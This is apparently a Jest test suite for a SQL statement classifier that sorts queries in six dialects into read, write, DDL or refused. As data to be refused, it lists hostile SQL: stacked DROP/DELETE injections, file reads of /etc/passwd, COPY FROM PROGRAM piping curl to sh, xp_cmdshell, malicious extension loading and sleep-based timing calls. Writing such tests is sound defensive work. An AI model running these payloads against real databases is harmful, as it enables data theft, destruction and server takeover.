import type { Dialect, SqlKind } from '@nlq/contracts';
import { classifySql, normalizeSql } from './index';

const DIALECTS: Dialect[] = ['sqlite', 'postgresql', 'mysql', 'mariadb', 'transactsql', 'snowflake'];

/** Expected kind per dialect: `all` for every dialect, then per-dialect overrides. */
type Expect = { all?: SqlKind } & Partial<Record<Dialect, SqlKind>>;

interface Case {
  sql: string;
  expect: Expect;
  statementType?: string;
  /** Checked on every dialect whose expected kind equals `reasonFor` (default: refused). */
  reason?: RegExp;
  reasonFor?: SqlKind;
  tables?: string[];
}

/** Every dialect paired with its expected kind; dialects without an expectation are skipped. */
function rows(cases: Case[]): Array<[string, Dialect, SqlKind, Case]> {
  const out: Array<[string, Dialect, SqlKind, Case]> = [];
  for (const c of cases) {
    for (const d of DIALECTS) {
      const kind = c.expect[d] ?? c.expect.all;
      if (kind) out.push([c.sql, d, kind, c]);
    }
  }
  return out;
}

function check(sql: string, dialect: Dialect, kind: SqlKind, c: Case): void {
  const res = classifySql(sql, dialect);
  expect({ dialect, kind: res.kind, reason: res.reason }).toEqual(expect.objectContaining({ dialect, kind }));
  if (kind === 'refused') expect(res.reason).toBeTruthy();
  if (c.reason && kind === (c.reasonFor ?? 'refused')) expect(res.reason).toMatch(c.reason);
  if (c.statementType && kind !== 'refused') expect(res.statementType).toBe(c.statementType);
  if (c.tables && kind !== 'refused') expect(res.tables).toEqual(c.tables);
}

describe('classifySql: reads', () => {
  const cases: Case[] = [
    { sql: 'SELECT 1', expect: { all: 'read' }, statementType: 'select', tables: [] },
    { sql: 'SELECT 1;', expect: { all: 'read' } },
    { sql: 'SELECT 1; -- trailing comment', expect: { all: 'read' } },
    { sql: 'SELECT 1 /* trailing */ ;  \n ', expect: { all: 'read' } },
    { sql: '-- leading comment\nSELECT name FROM customers', expect: { all: 'read' }, tables: ['customers'] },
    {
      sql: 'SELECT c.name, o.total FROM customers c JOIN orders o ON o.customer_id = c.id WHERE o.total > 10',
      expect: { all: 'read' },
      statementType: 'select',
      tables: ['customers', 'orders'],
    },
    {
      sql: 'SELECT c.name FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE o.id IS NULL',
      expect: { all: 'read' },
      tables: ['customers', 'orders'],
    },
    {
      sql: 'SELECT country, COUNT(*) AS n FROM customers GROUP BY country HAVING COUNT(*) > 1 ORDER BY n DESC',
      expect: { all: 'read' },
      tables: ['customers'],
    },
    {
      sql: 'SELECT name, ROW_NUMBER() OVER (PARTITION BY country ORDER BY name) AS rn FROM customers',
      expect: { all: 'read' },
    },
    {
      // node-sql-parser's SQLite grammar rejects RANK() OVER (ORDER BY ...); the PostgreSQL fallback reads it.
      sql: 'SELECT customer_id, RANK() OVER (ORDER BY total DESC) AS r FROM orders',
      expect: { all: 'read' },
    },
    {
      sql: 'WITH big AS (SELECT customer_id FROM orders WHERE total > 10) SELECT * FROM big',
      expect: { all: 'read' },
      statementType: 'select',
      tables: ['orders'],
    },
    {
      sql: 'WITH a AS (SELECT id FROM customers), b AS (SELECT id FROM a) SELECT COUNT(*) FROM b',
      expect: { all: 'read' },
      tables: ['customers'],
    },
    {
      sql: 'SELECT name FROM customers UNION SELECT name FROM suppliers',
      expect: { all: 'read' },
      tables: ['customers', 'suppliers'],
    },
    { sql: 'SELECT id FROM a EXCEPT SELECT id FROM b', expect: { postgresql: 'read', mysql: 'read', mariadb: 'read' } },
    { sql: 'SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders)', expect: { all: 'read' } },
    { sql: 'SELECT * FROM (SELECT name FROM customers) AS sub', expect: { all: 'read' }, tables: ['customers'] },
    { sql: 'SELECT deleted_at FROM t', expect: { all: 'read' }, tables: ['t'] },
    { sql: 'SELECT updated_by, created_at, drop_reason FROM t', expect: { all: 'read' } },
    { sql: "SELECT 'drop table x' AS s", expect: { all: 'read' } },
    { sql: "SELECT 'a; DELETE FROM t' AS s", expect: { all: 'read' } },
    { sql: "SELECT name FROM t WHERE note = 'pg_sleep(10)'", expect: { all: 'read' } },
    { sql: 'SELECT 1 -- ; DELETE FROM t', expect: { all: 'read' } },
    { sql: 'SELECT "delete" FROM "update"', expect: { all: 'read', mysql: 'read', transactsql: 'read' } },
    { sql: 'SELECT `delete` FROM `update`', expect: { mysql: 'read', mariadb: 'read', sqlite: 'read' } },
    { sql: 'SELECT [delete] FROM [update]', expect: { transactsql: 'read' } },
    { sql: 'SELECT TOP 5 name FROM customers', expect: { transactsql: 'read', snowflake: 'read' } },
    {
      sql: 'SELECT name FROM customers LIMIT 5',
      expect: { sqlite: 'read', postgresql: 'read', mysql: 'read', mariadb: 'read', snowflake: 'read' },
    },
    { sql: 'SELECT $$a;b$$ AS s', expect: { postgresql: 'read' } },
    { sql: "SELECT $tag$ '; DELETE FROM t; $tag$ AS s", expect: { postgresql: 'read' } },
    { sql: "SELECT 'it''s; fine' AS s", expect: { all: 'read' } },
    { sql: "SELECT 'it\\'s; fine' AS s", expect: { mysql: 'read', mariadb: 'read' } },
    { sql: 'SELECT 1 # comment ; DELETE FROM t', expect: { mysql: 'read', mariadb: 'read' } },
  ];
  it.each(rows(cases))('%s [%s] -> %s', (sql, dialect, kind, c) => check(sql, dialect, kind, c));
});

describe('classifySql: writes', () => {
  const cases: Case[] = [
    { sql: 'INSERT INTO t (a) VALUES (1)', expect: { all: 'write' }, statementType: 'insert', tables: ['t'] },
    { sql: 'INSERT INTO t (a) SELECT a FROM u', expect: { all: 'write' }, tables: ['t', 'u'] },
    { sql: 'UPDATE t SET a = 1 WHERE b = 2', expect: { all: 'write' }, statementType: 'update', tables: ['t'] },
    // Snowflake's grammar in node-sql-parser 5.4 has no DELETE: refused, never read.
    {
      sql: 'DELETE FROM t WHERE a = 1',
      expect: { all: 'write', snowflake: 'refused' },
      statementType: 'delete',
      tables: ['t'],
    },
    { sql: 'REPLACE INTO t (a) VALUES (1)', expect: { all: 'write' }, statementType: 'replace' },
    {
      sql: 'INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2',
      expect: { postgresql: 'write', snowflake: 'write', sqlite: 'write' },
      statementType: 'insert',
    },
    {
      sql: 'INSERT INTO t (a) VALUES (1) ON DUPLICATE KEY UPDATE a = 2',
      expect: { mysql: 'write', mariadb: 'write', postgresql: 'refused' },
      statementType: 'insert',
    },
    // MERGE: node-sql-parser 5.4 parses it in none of these grammars, so it is refused as unparseable.
    {
      sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a',
      expect: { all: 'refused' },
      reason: /could not parse/,
    },
    // Data-modifying CTEs (PostgreSQL; SQLite through the PostgreSQL fallback grammar): the whole AST is walked.
    {
      sql: 'WITH d AS (INSERT INTO t (a) VALUES (1) RETURNING a) SELECT * FROM d',
      expect: { postgresql: 'write', snowflake: 'write', sqlite: 'write', mysql: 'refused' },
      statementType: 'select',
      reason: /INSERT/,
      reasonFor: 'write',
      tables: ['t'],
    },
    {
      sql: 'WITH u AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM u',
      expect: { postgresql: 'write', sqlite: 'write' },
      reason: /UPDATE/,
      reasonFor: 'write',
    },
    // DELETE ... RETURNING inside WITH is beyond the PostgreSQL grammar of node-sql-parser 5.4: refused.
    { sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', expect: { postgresql: 'refused' } },
    {
      sql: 'SELECT * FROM t FOR UPDATE',
      expect: { mysql: 'write', mariadb: 'write', postgresql: 'refused', sqlite: 'refused' },
      reason: /FOR UPDATE/,
      reasonFor: 'write',
    },
    // MariaDB's grammar rejects LOCK IN SHARE MODE; the MySQL fallback parses it.
    {
      sql: 'SELECT * FROM t LOCK IN SHARE MODE',
      expect: { mysql: 'write', mariadb: 'write' },
      reason: /LOCK IN SHARE MODE/,
      reasonFor: 'write',
    },
    { sql: 'SELECT * FROM t FOR SHARE', expect: { all: 'refused' } },
  ];
  it.each(rows(cases))('%s [%s] -> %s', (sql, dialect, kind, c) => check(sql, dialect, kind, c));
});

describe('classifySql: DDL and admin statements', () => {
  const cases: Case[] = [
    { sql: 'CREATE TABLE t (a int)', expect: { all: 'ddl' }, statementType: 'create', tables: ['t'] },
    { sql: 'CREATE VIEW v AS SELECT 1 AS x', expect: { all: 'ddl', transactsql: 'refused' }, statementType: 'create' },
    { sql: 'CREATE INDEX i ON t (a)', expect: { all: 'ddl' }, statementType: 'create' },
    { sql: 'ALTER TABLE t ADD COLUMN b int', expect: { all: 'ddl' }, statementType: 'alter' },
    { sql: 'DROP TABLE t', expect: { all: 'ddl' }, statementType: 'drop', tables: ['t'] },
    { sql: 'DROP INDEX i', expect: { postgresql: 'ddl', snowflake: 'ddl' } },
    { sql: 'TRUNCATE TABLE t', expect: { all: 'ddl' }, statementType: 'truncate' },
    {
      sql: 'RENAME TABLE t TO u',
      expect: { mysql: 'ddl', mariadb: 'ddl', postgresql: 'refused' },
      statementType: 'rename',
    },
    { sql: 'ALTER TABLE t RENAME TO u', expect: { all: 'ddl' } },
    {
      sql: 'GRANT SELECT ON t TO bob',
      expect: { postgresql: 'ddl', mysql: 'ddl', mariadb: 'ddl', transactsql: 'refused' },
      statementType: 'grant',
    },
    { sql: 'REVOKE SELECT ON t FROM bob', expect: { postgresql: 'ddl', sqlite: 'ddl' }, statementType: 'revoke' },
    { sql: 'SET x = 1', expect: { mysql: 'ddl', postgresql: 'ddl', sqlite: 'ddl' }, statementType: 'set' },
    { sql: 'LOCK TABLES t READ', expect: { mysql: 'ddl', mariadb: 'ddl' }, statementType: 'lock' },
    { sql: 'LOCK TABLE t', expect: { postgresql: 'ddl', snowflake: 'ddl' }, statementType: 'lock' },
    { sql: 'CALL proc()', expect: { all: 'ddl' }, statementType: 'call' },
    { sql: 'EXEC dbo.refresh_stats', expect: { transactsql: 'ddl' }, statementType: 'exec' },
    { sql: 'USE db', expect: { all: 'ddl' }, statementType: 'use' },
    { sql: 'SHOW TABLES', expect: { mysql: 'ddl', postgresql: 'ddl', sqlite: 'ddl' } },
    {
      sql: 'SELECT * INTO new_t FROM t',
      expect: { postgresql: 'ddl', transactsql: 'ddl', mysql: 'ddl', sqlite: 'ddl' },
      statementType: 'select',
      tables: ['new_t', 't'],
    },
    { sql: 'SELECT a INTO @v FROM t', expect: { mysql: 'ddl', mariadb: 'ddl' } },
  ];
  it.each(rows(cases))('%s [%s] -> %s', (sql, dialect, kind, c) => check(sql, dialect, kind, c));
});

describe('classifySql: stacked and hidden statements', () => {
  const cases: Case[] = [
    { sql: 'SELECT 1; DROP TABLE t', expect: { all: 'refused' }, reason: /^2 statements found/ },
    { sql: 'SELECT 1 /* x */; DELETE FROM t -- y', expect: { all: 'refused' }, reason: /^2 statements found/ },
    { sql: 'SELECT 1;\nSELECT 2;\nSELECT 3', expect: { all: 'refused' }, reason: /^3 statements found/ },
    { sql: "SELECT 'a'; UPDATE t SET a = ';'", expect: { all: 'refused' }, reason: /^2 statements found/ },
    // MySQL: `--` without a following space is arithmetic, so the DROP is a second statement there.
    {
      sql: 'SELECT 1--1; DROP TABLE t',
      expect: { mysql: 'refused', mariadb: 'refused' },
      reason: /^2 statements found/,
    },
    // MySQL runs the content of /*! ... */.
    {
      sql: 'SELECT 1 /*! ; DROP TABLE t */',
      expect: { mysql: 'refused', mariadb: 'refused', postgresql: 'read' },
      reason: /executable comment/,
    },
    // T-SQL needs no semicolon between statements: the parser does not accept this as one statement.
    { sql: 'SELECT 1 DELETE FROM t', expect: { transactsql: 'refused' } },
    // PostgreSQL nests block comments, so the DELETE is inside the comment there; elsewhere it is a 2nd statement.
    {
      sql: 'SELECT 1 /* a /* b */ ; DELETE FROM t */',
      expect: { postgresql: 'read', sqlite: 'refused', mysql: 'refused' },
    },
    // SQLite binds #x as a parameter; the parser's sqlite grammar would skip it as a comment and see only `SELECT 1`.
    { sql: 'SELECT 1 #x\n, 2', expect: { sqlite: 'refused' }, reason: /SQLite reads #name as a parameter/ },
  ];
  it.each(rows(cases))('%s [%s] -> %s', (sql, dialect, kind, c) => check(sql, dialect, kind, c));
});

describe('classifySql: always refused', () => {
  const cases: Case[] = [
    // SQLite
    { sql: "ATTACH DATABASE '/tmp/x.db' AS x", expect: { all: 'refused' }, reason: /ATTACH/ },
    { sql: "ATTACH '/tmp/x.db' AS x", expect: { sqlite: 'refused' }, reason: /ATTACH/ },
    { sql: 'DETACH DATABASE x', expect: { all: 'refused' }, reason: /DETACH/ },
    { sql: 'PRAGMA table_info(t)', expect: { all: 'refused' }, reason: /PRAGMA/ },
    { sql: '/* c */ pragma writable_schema = 1;', expect: { all: 'refused' }, reason: /PRAGMA/ },
    { sql: "VACUUM INTO '/tmp/copy.db'", expect: { all: 'refused' }, reason: /VACUUM INTO/ },
    { sql: "SELECT load_extension('/tmp/evil.so')", expect: { all: 'refused' }, reason: /load_extension/ },
    { sql: "SELECT writefile('/tmp/x', 'y')", expect: { all: 'refused' }, reason: /writefile/ },
    { sql: "SELECT readfile('/etc/passwd')", expect: { all: 'refused' }, reason: /readfile/ },
    { sql: "SELECT fts3_tokenizer('simple')", expect: { all: 'refused' }, reason: /fts3_tokenizer/ },
    // PostgreSQL
    { sql: "COPY t FROM PROGRAM 'curl http://x | sh'", expect: { all: 'refused' }, reason: /COPY/ },
    { sql: "COPY t TO '/tmp/x'", expect: { all: 'refused' }, reason: /COPY/ },
    { sql: 'COPY (SELECT 1) TO STDOUT', expect: { postgresql: 'refused' }, reason: /COPY/ },
    { sql: "SELECT pg_read_file('/etc/passwd')", expect: { all: 'refused' }, reason: /pg_read_file/ },
    { sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", expect: { all: 'refused' }, reason: /pg_read_file/ },
    { sql: "SELECT pg_read_binary_file('/etc/passwd')", expect: { all: 'refused' }, reason: /pg_read_binary_file/ },
    { sql: "SELECT * FROM pg_ls_dir('.')", expect: { postgresql: 'refused', sqlite: 'refused' }, reason: /pg_ls_dir/ },
    { sql: "SELECT lo_import('/etc/passwd')", expect: { all: 'refused' }, reason: /lo_import/ },
    { sql: "SELECT lo_export(1, '/tmp/x')", expect: { all: 'refused' }, reason: /lo_export/ },
    { sql: "SELECT dblink_exec('host=x', 'drop table t')", expect: { all: 'refused' }, reason: /dblink_exec/ },
    { sql: "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", expect: { postgresql: 'refused' } },
    { sql: 'SELECT pg_terminate_backend(123)', expect: { all: 'refused' }, reason: /pg_terminate_backend/ },
    { sql: 'SELECT pg_cancel_backend(123)', expect: { all: 'refused' }, reason: /pg_cancel_backend/ },
    { sql: "SELECT set_config('work_mem', '1GB', false)", expect: { all: 'refused' }, reason: /set_config/ },
    { sql: 'SELECT pg_sleep(10)', expect: { all: 'refused' }, reason: /pg_sleep/ },
    { sql: "SELECT nextval('s')", expect: { all: 'refused' }, reason: /nextval/ },
    { sql: "SELECT setval('s', 1)", expect: { all: 'refused' }, reason: /setval/ },
    { sql: 'SELECT pg_advisory_lock(1)', expect: { all: 'refused' }, reason: /pg_advisory_lock/ },
    { sql: 'SELECT pg_advisory_lock_shared(1)', expect: { all: 'refused' }, reason: /pg_advisory_lock_shared/ },
    { sql: 'SELECT name FROM t WHERE id IN (SELECT pg_sleep(1))', expect: { all: 'refused' }, reason: /pg_sleep/ },
    { sql: 'WITH x AS (SELECT pg_sleep(1) AS s) SELECT s FROM x', expect: { all: 'refused' }, reason: /pg_sleep/ },
    // Refused functions are found wherever the call sits in the AST, however the name is written.
    { sql: 'SELECT "pg_sleep"(1)', expect: { postgresql: 'refused', sqlite: 'refused' }, reason: /pg_sleep/ },
    { sql: 'SELECT PG_SLEEP (1)', expect: { all: 'refused' }, reason: /pg_sleep/ },
    { sql: 'SELECT CAST(pg_sleep(1) AS text)', expect: { all: 'refused' }, reason: /pg_sleep/ },
    { sql: 'SELECT CASE WHEN 1 = 1 THEN pg_sleep(1) END', expect: { all: 'refused' }, reason: /pg_sleep/ },
    { sql: 'SELECT name FROM t ORDER BY pg_sleep(1)', expect: { all: 'refused' }, reason: /pg_sleep/ },
    {
      sql: 'SELECT a FROM t JOIN u ON u.id = t.id AND pg_sleep(1) IS NULL',
      expect: { all: 'refused' },
      reason: /pg_sleep/,
    },
    {
      sql: 'SELECT name FROM t GROUP BY name HAVING MAX(pg_sleep(1)) IS NULL',
      expect: { all: 'refused' },
      reason: /pg_sleep/,
    },
    { sql: 'SELECT a FROM (SELECT sleep(1) AS a) s', expect: { all: 'refused' }, reason: /sleep/ },
    { sql: 'DO $$ BEGIN DELETE FROM t; END $$', expect: { postgresql: 'refused' }, reason: /DO runs/ },
    { sql: "LOAD '/tmp/evil.so'", expect: { postgresql: 'refused' }, reason: /LOAD/ },
    // MySQL / MariaDB
    { sql: "SELECT LOAD_FILE('/etc/passwd')", expect: { all: 'refused' }, reason: /load_file/ },
    { sql: 'SELECT SLEEP(5)', expect: { all: 'refused' }, reason: /sleep/ },
    { sql: "SELECT BENCHMARK(1000000, MD5('a'))", expect: { all: 'refused' }, reason: /benchmark/ },
    { sql: "SELECT GET_LOCK('x', 10)", expect: { all: 'refused' }, reason: /get_lock/ },
    { sql: "LOAD DATA INFILE '/tmp/x' INTO TABLE t", expect: { all: 'refused' }, reason: /LOAD/ },
    {
      sql: "LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE t",
      expect: { mysql: 'refused', mariadb: 'refused' },
      reason: /LOAD/,
    },
    { sql: "SELECT * FROM t INTO OUTFILE '/tmp/x'", expect: { all: 'refused' } },
    {
      sql: "SELECT * FROM t INTO OUTFILE '/tmp/x'",
      expect: { mysql: 'refused', mariadb: 'refused' },
      reason: /INTO OUTFILE/,
    },
    {
      sql: "SELECT * INTO OUTFILE '/tmp/x' FROM t",
      expect: { mysql: 'refused', mariadb: 'refused' },
      reason: /INTO OUTFILE/,
    },
    {
      sql: "SELECT * FROM t INTO DUMPFILE '/tmp/x'",
      expect: { mysql: 'refused', mariadb: 'refused' },
      reason: /INTO DUMPFILE/,
    },
    { sql: 'DO SLEEP(5)', expect: { mysql: 'refused', mariadb: 'refused' }, reason: /DO runs/ },
    // SQL Server
    { sql: "EXEC xp_cmdshell 'dir'", expect: { all: 'refused' } },
    { sql: "EXEC xp_cmdshell 'dir'", expect: { transactsql: 'refused' }, reason: /xp_cmdshell/ },
    { sql: "EXEC master..xp_cmdshell 'dir'", expect: { transactsql: 'refused' }, reason: /xp_cmdshell/ },
    { sql: 'EXEC sp_who', expect: { transactsql: 'refused' }, reason: /sp_who/ },
    {
      sql: "EXEC [master].[sys].[sp_configure] 'show advanced options', 1",
      expect: { transactsql: 'refused' },
      reason: /sp_configure/,
    },
    { sql: "EXECUTE sp_executesql N'DROP TABLE t'", expect: { transactsql: 'refused' }, reason: /sp_executesql/ },
    { sql: "EXEC ('DROP TABLE t')", expect: { transactsql: 'refused' }, reason: /dynamic SQL/ },
    {
      sql: "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;Trusted_Connection=yes;', 'select 1') AS r",
      expect: { transactsql: 'refused', postgresql: 'refused' },
      reason: /openrowset/,
    },
    { sql: "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x').db.dbo.t", expect: { transactsql: 'refused' } },
    {
      sql: "SELECT OPENDATASOURCE('SQLNCLI', 'Data Source=x') AS d",
      expect: { transactsql: 'refused' },
      reason: /opendatasource/,
    },
    { sql: "BULK INSERT t FROM '/tmp/x.csv'", expect: { transactsql: 'refused' }, reason: /BULK/ },
    { sql: "SELECT * FROM OPENQUERY(srv, 'select 1')", expect: { transactsql: 'refused' }, reason: /openquery/ },
  ];
  it.each(rows(cases))('%s [%s] -> %s', (sql, dialect, kind, c) => check(sql, dialect, kind, c));
});

describe('classifySql: unreadable input', () => {
  const cases: Case[] = [
    { sql: '', expect: { all: 'refused' }, reason: /empty/ },
    { sql: '   \n\t ', expect: { all: 'refused' }, reason: /empty/ },
    { sql: ';', expect: { all: 'refused' }, reason: /empty/ },
    { sql: '-- only a comment', expect: { all: 'refused' }, reason: /empty/ },
    { sql: 'this is not sql at all', expect: { all: 'refused' } },
    { sql: 'SELECT FROM WHERE', expect: { all: 'refused' }, reason: /could not parse as \w+ SQL: unexpected/ },
    { sql: "SELECT * FROM t WHERE a = 'unterminated", expect: { all: 'refused' }, reason: /unterminated string/ },
    { sql: 'SELECT 1 /* unterminated', expect: { all: 'refused' }, reason: /unterminated/ },
    { sql: '```sql\nSELECT 1\n```', expect: { all: 'refused' } },
  ];
  it.each(rows(cases))('%j [%s] -> %s', (sql, dialect, kind, c) => check(sql, dialect, kind, c));

  it('shortens the parser message to one line', () => {
    const res = classifySql('SELECT * FROM t WHERE', 'postgresql');
    expect(res.kind).toBe('refused');
    expect(res.reason).toMatch(/^could not parse as postgresql SQL: unexpected end of input at line 1, column \d+$/);
    expect((res.reason ?? '').length).toBeLessThan(300);
  });

  it('does not throw on non-string input', () => {
    expect(classifySql(undefined as unknown as string, 'sqlite').kind).toBe('refused');
  });
});

describe('classifySql: tables', () => {
  it('lists referenced tables lower-cased without schema and without CTE names', () => {
    const res = classifySql(
      'WITH Recent AS (SELECT * FROM Sales.Orders WHERE total > 1) SELECT c.Name FROM public.Customers c JOIN Recent r ON r.customer_id = c.id',
      'postgresql',
    );
    expect(res).toEqual({ kind: 'read', statementType: 'select', tables: ['customers', 'orders'] });
  });

  it('includes tables of subqueries and writes', () => {
    expect(classifySql('UPDATE t SET a = (SELECT MAX(b) FROM u)', 'mysql').tables).toEqual(['t', 'u']);
    expect(classifySql('SELECT 1 FROM a WHERE EXISTS (SELECT 1 FROM b)', 'sqlite').tables).toEqual(['a', 'b']);
  });
});

describe('normalizeSql', () => {
  it.each([
    ['  SELECT 1;  ', 'SELECT 1'],
    ['SELECT 1;;\n', 'SELECT 1'],
    ['SELECT 1; -- done\n', 'SELECT 1'],
    ['SELECT 1 /* why */ ;', 'SELECT 1'],
    ['-- q\nSELECT 1', '-- q\nSELECT 1'],
    ["SELECT ';' AS s;", "SELECT ';' AS s"],
    ['SELECT 1; SELECT 2;', 'SELECT 1; SELECT 2'],
    ['', ''],
    ['  ;  ', ''],
  ])('%j -> %j', (input, output) => {
    expect(normalizeSql(input)).toBe(output);
  });

  it('follows the dialect quoting rules', () => {
    expect(normalizeSql("SELECT 'a\\';' AS s; # c", 'mysql')).toBe("SELECT 'a\\';' AS s");
  });

  it('only trims text it cannot tokenize', () => {
    expect(normalizeSql("  SELECT 'open;  ")).toBe("SELECT 'open;");
  });

  it('keeps the classification of the normalized text', () => {
    const sql = 'SELECT name FROM customers; -- list\n';
    expect(classifySql(normalizeSql(sql, 'sqlite'), 'sqlite').kind).toBe('read');
  });
});
